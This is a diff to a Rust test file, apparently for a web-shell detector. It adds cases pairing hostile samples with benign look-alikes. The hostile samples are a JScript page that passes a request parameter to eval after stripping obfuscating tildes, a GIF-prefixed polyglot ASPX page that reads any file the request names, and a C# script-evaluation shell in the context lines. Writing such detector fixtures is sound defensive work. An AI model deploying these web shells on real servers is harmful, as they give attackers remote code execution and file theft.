@@ -518,6 +518,16 @@ fn cases() -> Vec<Case> {
             "<%@ Page Language=\"C#\" Async=\"true\" %>\n<%@ Import Namespace=\"Microsoft.CodeAnalysis.CSharp.Scripting\" %>\n<script runat=\"server\">\nprotected async void Page_Load(object s, EventArgs e) {\n  var r = await CSharpScript.EvaluateAsync(Request.Form[\"q\"]);\n  Response.Write(r);\n}\n</script>\n",
             "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n// Calculator page: parses the expression itself, no script engine.\nprotected void Calc_Click(object s, EventArgs e) {\n  var t = new System.Data.DataTable();\n  result.Text = t.Compute(expr.Text.Replace(\"x\", \"*\"), \"\").ToString();\n}\n</script>\n",
         ),
+        case(
+            "EXRAY_Eval_Request_Flow",
+            "<script language=\"JScript\" runat=\"server\">\nfunction Page_Load() {\n  var t = Request[\"t\"];\n  for (var i = 0; i < 64; i++) { t = t.replace(\"~\", \"\"); }\n  run(t);\n}\nfunction run(x) { eval(x); }\n</script>\n",
+            "<%@ Page Language=\"JScript\" %>\n<script runat=\"server\">\nfunction Page_Load() {\n  var rule = LoadRule(Request[\"id\"]);\n  var ok = eval(rule.expression);\n  status.Text = ok ? \"on\" : \"off\";\n}\n</script>\n",
+        ),
+        case(
+            "EXRAY_Image_Polyglot_Server_Code",
+            "GIF89a;\n<%@ Page Language=\"C#\" %>\n<% Response.Write(System.IO.File.ReadAllText(Request[\"f\"])); %>\n",
+            "GIF89a\u{1}\u{0}\u{1}\u{0}\u{0}\u{0}\u{0};<!-- a GIF with an HTML comment: <% is just text in an image -->",
+        ),
     ]
 }
 
